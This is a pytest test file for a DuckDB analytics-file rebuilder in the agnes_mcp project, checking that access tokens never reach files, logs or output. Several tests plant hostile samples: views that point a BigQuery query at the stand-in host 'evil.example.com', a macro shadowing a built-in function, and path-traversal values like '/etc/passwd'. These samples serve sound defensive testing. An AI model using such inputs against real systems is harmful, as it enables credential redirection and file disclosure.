"""The analytics file has one view for each table that can be read, and holds no secret."""

from __future__ import annotations

import logging
from pathlib import Path
from typing import Any

import duckdb
import pytest
from extracts.conftest import read
from extracts.test_writing import write
from support.agnes import AttachedFile, extract, parquet

from agnes_mcp.calls.call import Call
from agnes_mcp.config.settings import BigQuerySettings
from agnes_mcp.errors import AgnesError
from agnes_mcp.extracts.attachment import Attachment
from agnes_mcp.extracts.layout import server_file
from agnes_mcp.extracts.rebuilding import RebuildAnswer, Rebuilder
from agnes_mcp.sources.extensions.statements import Attach, AttachStatements
from agnes_mcp.sql.names import identifier, literal

TOKEN = "ya29.canary-of-this-run"
BQ = ("bq", "bigquery", "project=my-project", "")


def rebuild(root: Path, call: Call, attachment: Attachment, token: Any = lambda: TOKEN) -> RebuildAnswer:
    return Rebuilder(root, token, attachment).run(call)


def no_token() -> str:
    raise AgnesError("auth_failed", "metadata server unreachable: refused", "Wait.")


def read_server(root: Path, sql: str, attached: AttachedFile, *sources: str) -> list[tuple[Any, ...]]:
    """As a program does that opens the analytics file: attach what its views name, then read."""
    with duckdb.connect(str(server_file(root)), read_only=True) as connection:
        attached.attach(connection, "bq", "project=my-project")
        for source in sources:
            connection.execute(f"ATTACH '{root}/extracts/{source}/extract.duckdb' AS {source} (READ_ONLY)")
        return connection.execute(sql).fetchall()


@pytest.fixture
def shop(root: Path) -> Path:
    orders = parquet(root / "extracts" / "shop" / "data" / "sales.parquet", "SELECT i AS id FROM range(5) AS r(i)")
    extract(
        orders.parents[1],
        {"sales": "local", "kept": "local", "only_listed": "local"},
        f"CREATE VIEW sales AS SELECT * FROM read_parquet('{orders}')",
        "CREATE TABLE kept AS SELECT 7 AS id",
    )
    return orders.parents[1]


def test_base_tables_and_views_resolve_through_it(
    root: Path, shop: Path, bigquery: BigQuerySettings, attached: AttachedFile, call: Call
) -> None:
    write(root, bigquery.model_copy(update={"legacy_wrap_views": True}), attached, call)
    answer = rebuild(root, call, attached)
    assert answer.problems == []
    assert answer.sources == {"bigquery": ["orders", "odd", "landings"], "shop": ["sales", "kept"]}
    assert attached.tokens[-1] == ("bq_secret_bq", TOKEN)
    sources = ("bigquery", "shop")
    assert read_server(root, "SELECT count(*) FROM orders", attached, *sources) == [(3,)]
    assert read_server(root, "SELECT project FROM landings", attached, *sources) == [("my-project",)]
    assert read_server(root, "SELECT count(*) FROM sales", attached, *sources) == [(5,)]
    assert read_server(root, "SELECT * FROM kept", attached, *sources) == [(7,)]


def test_a_token_is_in_no_file(
    root: Path, shop: Path, bigquery: BigQuerySettings, attached: AttachedFile, call: Call
) -> None:
    write(root, bigquery, attached, call)
    rebuild(root, call, attached)
    files = [path for path in root.rglob("*") if path.is_file()]
    assert server_file(root) in files
    assert [path for path in files if TOKEN.encode() in path.read_bytes()] == []


def test_a_failing_metadata_server_is_told_and_local_tables_appear(
    root: Path,
    shop: Path,
    bigquery: BigQuerySettings,
    attached: AttachedFile,
    call: Call,
    caplog: pytest.LogCaptureFixture,
) -> None:
    write(root, bigquery, attached, call)
    with duckdb.connect(str(root / "extracts" / "bigquery" / "extract.duckdb")) as connection:
        connection.execute("CREATE TABLE beside AS SELECT 1 AS id")
        connection.execute("INSERT INTO _meta VALUES ('beside', '', 0, 0, now(), 'local')")
    with caplog.at_level(logging.ERROR):
        answer = rebuild(root, call, attached, no_token)
    assert answer.sources == {"bigquery": ["beside"], "shop": ["sales", "kept"]}
    assert any(record.levelname == "ERROR" and "metadata" in record.message for record in caplog.records)


def test_without_the_extension_local_tables_appear(
    root: Path, shop: Path, call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attached: AttachedFile
) -> None:
    monkeypatch.setenv("AGNES_BIGQUERY_EXTENSION", str(tmp_path / "none.duckdb_extension"))
    extract(root / "extracts" / "bigquery", {"orders": "remote"}, attach=BQ)
    answer = rebuild(root, call, Attachment())
    assert answer.sources == {"shop": ["sales", "kept"]}
    assert "'bigquery' is not to be had" in answer.problems[0].reason
    assert TOKEN not in answer.model_dump_json()


def test_one_bad_source_leaves_the_others(root: Path, shop: Path, attached: AttachedFile, call: Call) -> None:
    bad = extract(root / "extracts" / "bad", {"orders": "local"}, "CREATE TABLE orders AS SELECT 1 AS id")
    bad.write_bytes(bad.read_bytes()[:5000])
    extract(root / "extracts" / "server", {"orders": "local"}, "CREATE TABLE orders AS SELECT 1 AS id")
    extract(root / "extracts" / "not-sql", {"orders": "local"}, "CREATE TABLE orders AS SELECT 1 AS id")
    extract(root / "extracts" / "zoo", {"Kept": "local", "own": "local"}, "CREATE TABLE own AS SELECT 1 AS id")
    answer = rebuild(root, call, attached)
    assert answer.sources == {"shop": ["sales", "kept"], "zoo": ["own"]}
    assert {(p.source, p.table) for p in answer.problems} == {
        ("bad", ""),
        ("server", ""),
        ("not-sql", ""),
        ("zoo", "Kept"),
    }


def test_no_stored_sql_gets_to_the_token(root: Path, attached: AttachedFile, call: Call, tmp_path: Path) -> None:
    outside = parquet(tmp_path / "secret.parquet")
    views = {
        "third": "SELECT * FROM bigquery_query('my-project', 'SELECT 1', 'evil.example.com')",
        "named": "SELECT * FROM bigquery_query('my-project', 'SELECT 1', api_endpoint = 'evil.example.com')",
        "file": f"SELECT * FROM read_parquet('{outside}')",
        "other": "SELECT * FROM other.main.t",
        "scan": "SELECT * FROM bigquery_scan('p.d.t')",
        "sub": "SELECT (SELECT 1) AS x FROM bq.my_dataset.orders",
    }
    extract(
        root / "extracts" / "evil",
        {**dict.fromkeys(views, "remote"), "fine": "remote"},
        f"ATTACH '{attached.file}' AS bq (READ_ONLY)",
        "ATTACH ':memory:' AS other",
        "CREATE TABLE other.main.t AS SELECT 1 AS id",
        "CREATE TEMP MACRO bigquery_query(p, q) AS TABLE (SELECT p, q), (p, q, api_endpoint) AS TABLE (SELECT p, q)",
        "CREATE TEMP MACRO bigquery_scan(p) AS TABLE SELECT p",
        *(f"CREATE VIEW {name} AS {sql}" for name, sql in views.items()),
        "CREATE VIEW fine AS SELECT * FROM bq.my_dataset.orders",
        attach=BQ,
    )
    answer = rebuild(root, call, attached)
    assert answer.sources == {"evil": ["fine"]}
    assert {problem.table for problem in answer.problems} == set(views)


def test_a_view_over_a_table_of_its_own_is_made_and_one_that_computes_says_where_it_is_served(
    root: Path, shop: Path, attached: AttachedFile, call: Call
) -> None:
    with duckdb.connect(str(shop / "extract.duckdb")) as connection:
        connection.execute("CREATE VIEW same AS SELECT * FROM kept")
        connection.execute("CREATE VIEW more AS SELECT id + 1 AS id FROM kept")
        for name in ("same", "more"):
            connection.execute("INSERT INTO _meta (table_name, query_mode) VALUES (?, 'local')", [name])
    answer = rebuild(root, call, attached)
    assert answer.sources == {"shop": ["sales", "kept", "same"]}
    assert [(problem.table, "served by the tools" in problem.reason) for problem in answer.problems] == [("more", True)]
    assert read_server(root, "SELECT id FROM same", attached, "shop") == [(7,)]


def test_a_macro_that_hides_a_function_of_duckdb_is_not_called(
    root: Path, shop: Path, attached: AttachedFile, call: Call
) -> None:
    with duckdb.connect(str(shop / "extract.duckdb")) as connection:
        connection.execute("CREATE MACRO Read_Parquet(file) AS TABLE SELECT 'hidden' AS id")
    answer = rebuild(root, call, attached)
    assert answer.sources == {"shop": ["kept"]}


def test_an_alias_is_one_thing(root: Path, attached: AttachedFile, call: Call) -> None:
    for source, project in (("a", "my-project"), ("b", "my-project"), ("c", "other-project")):
        extract(
            root / "extracts" / source,
            {f"orders_{source}": "remote"},
            f"ATTACH '{attached.file}' AS bq (READ_ONLY)",
            f"CREATE VIEW orders_{source} AS SELECT * FROM bq.my_dataset.orders",
            attach=("bq", "bigquery", f"project={project}", ""),
        )
    tokens: list[str] = []
    answer = rebuild(root, call, attached, lambda: tokens.append(TOKEN) or TOKEN)  # type: ignore[func-returns-value]
    assert answer.sources == {"a": ["orders_a"], "b": ["orders_b"]}
    assert "attached as something else" in answer.problems[0].reason
    assert len(tokens) == 1


def test_the_first_source_keeps_a_name(root: Path, attached: AttachedFile, call: Call) -> None:
    for source in ("b", "a"):
        extract(root / "extracts" / source, {"orders": "local"}, f"CREATE TABLE orders AS SELECT '{source}' AS id")
    answer = rebuild(root, call, attached)
    assert (answer.sources, answer.problems[0].source) == ({"a": ["orders"]}, "b")
    assert read_server(root, "SELECT * FROM orders", attached, "a") == [("a",)]


class Shown(AttachStatements):
    """A DuckDB file in the place of what the extension attaches. The token is where a secret would be: of the
    connection alone."""

    def __init__(self, file: Path, fails: bool = False) -> None:
        self.file, self.fails = file, fails
        self.asked: list[str] = []

    def load(self, extension: str) -> list[list[str]]:
        return [["LOAD nowhere_to_be_found"], ["SELECT 1"]]

    def secret(self, source: Attach) -> tuple[str, list[str]]:
        said, _ = super().secret(source)
        self.asked.append(said)
        return ("CREATE OR REPLACE TEMP TABLE secret AS SELECT ? AS token" if said else "", [])

    def attach(self, source: Attach) -> str:
        self.asked.append(super().attach(source))
        if self.fails:
            return "SELECT error((SELECT token FROM secret))"
        return f"ATTACH {literal(str(self.file))} AS {identifier(source.alias)} (READ_ONLY)"


@pytest.fixture
def crm(tmp_path: Path) -> Path:
    file = tmp_path / "crm.duckdb"
    with duckdb.connect(str(file)) as connection:
        connection.execute("CREATE SCHEMA sales; CREATE TABLE sales.deals AS SELECT 1 AS id")
    return file


def kept_files(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())


@pytest.mark.parametrize("fails", [False, True])
def test_another_extension_gets_its_token_from_its_variable_and_keeps_it_nowhere(
    root: Path,
    call: Call,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    crm: Path,
    fails: bool,
) -> None:
    monkeypatch.setenv("KBC_TOKEN", "s3'cret-of-this-run")
    row = ("kbc", "keboola", "https://connection.example.com/", "KBC_TOKEN")
    sql = "CREATE VIEW deals AS SELECT * FROM kbc.sales.deals"
    extract(root / "extracts" / "keboola", {"deals": "remote"}, f"ATTACH '{crm}' AS kbc (READ_ONLY)", sql, attach=row)
    statements = Shown(crm, fails)
    answer = rebuild(root, call, Attachment(statements))
    assert statements.asked == [
        'CREATE OR REPLACE SECRET "agnes_kbc" (TYPE "keboola", TOKEN ?, URL ?)',
        'ATTACH \'https://connection.example.com\' AS "kbc" (TYPE "keboola", SECRET "agnes_kbc", READ_ONLY)',
    ]
    assert answer.sources == ({} if fails else {"keboola": ["deals"]})
    if fails:
        assert "'keboola' is not to be had, or refused" in answer.problems[0].reason
    assert "cret-of" not in answer.model_dump_json() + caplog.text
    assert b"cret-of" not in kept_files(root)


def test_a_variable_that_is_not_set_is_told_and_none_is_needed_without_one(
    root: Path, call: Call, monkeypatch: pytest.MonkeyPatch, crm: Path
) -> None:
    monkeypatch.delenv("KBC_TOKEN", raising=False)
    sql = "CREATE VIEW deals AS SELECT * FROM kbc.sales.deals"
    for name, variable in (("closed", "KBC_TOKEN"), ("open", "")):
        row = ("kbc", "keboola", "https://connection.example.com/", variable)
        extract(root / "extracts" / name, {"deals": "remote"}, f"ATTACH '{crm}' AS kbc (READ_ONLY)", sql, attach=row)
    statements = Shown(crm)
    answer = rebuild(root, call, Attachment(statements))
    assert answer.sources == {"open": ["deals"]}
    assert "the variable KBC_TOKEN is not set" in answer.problems[0].reason
    assert statements.asked == [
        "", 'ATTACH \'https://connection.example.com\' AS "kbc" (TYPE "keboola", READ_ONLY)'
    ]  # fmt: skip


@pytest.mark.parametrize("url", ["../../elsewhere.db", "/etc/passwd", "data/../../x.db"])
def test_a_file_of_somewhere_else_is_not_attached(
    root: Path, call: Call, monkeypatch: pytest.MonkeyPatch, crm: Path, url: str
) -> None:
    monkeypatch.setenv("AGNES_REMOTE_ATTACH_EXTENSIONS", "sqlite")
    extract(root / "extracts" / "shop", {"t": "remote"}, attach=("crm", "sqlite", url, ""))
    statements = Shown(crm)
    answer = rebuild(root, call, Attachment(statements))
    assert "not a file below the folder of its source" in answer.problems[0].reason
    assert statements.asked == []


def test_without_extracts_there_is_nothing_and_nothing_is_made(root: Path, attached: AttachedFile, call: Call) -> None:
    assert rebuild(root, call, attached).sources == {}
    assert not root.exists()


def test_the_file_is_replaced_whole_and_without_an_old_log(
    root: Path, shop: Path, attached: AttachedFile, call: Call
) -> None:
    rebuild(root, call, attached)
    file = server_file(root)
    wal = file.with_name("server.duckdb.wal")
    with duckdb.connect(str(file)) as connection:
        connection.execute("PRAGMA disable_checkpoint_on_shutdown")
        connection.execute("CREATE TABLE ghost AS SELECT 1 AS id")
        left = wal.read_bytes()
    wal.write_bytes(left)
    rebuild(root, call, attached)
    assert [path.name for path in sorted(file.parent.iterdir())] == [".server.duckdb.lock", "server.duckdb"]
    assert read(file, "SELECT count(*) FROM duckdb_tables()") == [(0,)]
